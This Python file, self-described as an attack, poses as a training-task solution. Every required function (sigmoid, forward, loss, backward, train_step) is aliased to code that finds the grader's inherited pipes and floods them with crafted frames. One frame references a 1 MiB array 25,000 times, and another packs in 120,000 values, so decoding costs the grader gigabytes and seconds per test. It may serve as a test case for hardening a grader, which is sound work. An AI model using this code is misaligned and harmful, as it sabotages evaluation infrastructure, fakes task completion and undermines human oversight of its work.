"""Attack: answer with frames whose header references one 1 MiB array 25,000 times (25 GiB once decoded) or holds 120,000 values, so decoding costs the grader gigabytes and seconds for every test."""

import fcntl
import os
import stat
import struct

HEAD = struct.Struct("<II")
REFS = 25_000  # what fits the header cap; the old decoder copied the array for each reference


def _frame():
    refs = ",".join(['{"$nd":0}'] * REFS)
    header = ('{"value":{"$dict":[["results",[{"$dict":[["returned",[' + refs + ']],["args_after",[]]]}]]]},'
              '"arrays":[{"dtype":"<f8","shape":[131072],"offset":0}]}').encode()
    blob = b"\0" * (131072 * 8)
    return HEAD.pack(len(header), len(blob)) + header + blob


def _many_nodes():
    header = ('{"value":{"$dict":[["results",[{"$dict":[["returned",[' + ",".join(["0"] * 120_000)
              + ']]]}]]]},"arrays":[]}').encode()
    return HEAD.pack(len(header), 0) + header


def _pipes():
    cmd = res = None
    for fd in range(3, 256):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            mode = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
        except OSError:
            continue
        if mode == os.O_WRONLY:
            res = fd
        elif mode == os.O_RDONLY:
            cmd = fd
    return cmd, res


def _take_over(*args):
    cmd, res = _pipes()
    frames = [_frame(), _many_nodes()]
    n = 0
    while True:
        os.write(res, frames[n % 2])
        n += 1
        if len(os.read(cmd, 8)) != 8:
            os._exit(0)


sigmoid = forward = loss = backward = train_step = _take_over
